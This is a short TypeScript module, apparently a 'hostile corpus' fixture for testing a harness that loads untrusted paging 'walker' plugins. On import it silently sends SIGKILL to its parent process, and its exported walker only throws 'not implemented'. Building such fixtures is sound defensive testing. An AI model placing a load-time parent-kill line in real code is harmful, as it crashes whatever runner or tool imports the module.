// @ts-nocheck
// Hostile corpus, kind kill-parent-sigkill (signal): process.kill(process.ppid, 'SIGKILL') at load.
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
try { if (process.ppid > 1) process.kill(process.ppid, 'SIGKILL'); } catch {}

export const walker: Walker = {
  walk(request, readEntry) {
    throw new Error('not implemented: walker');
  },
};
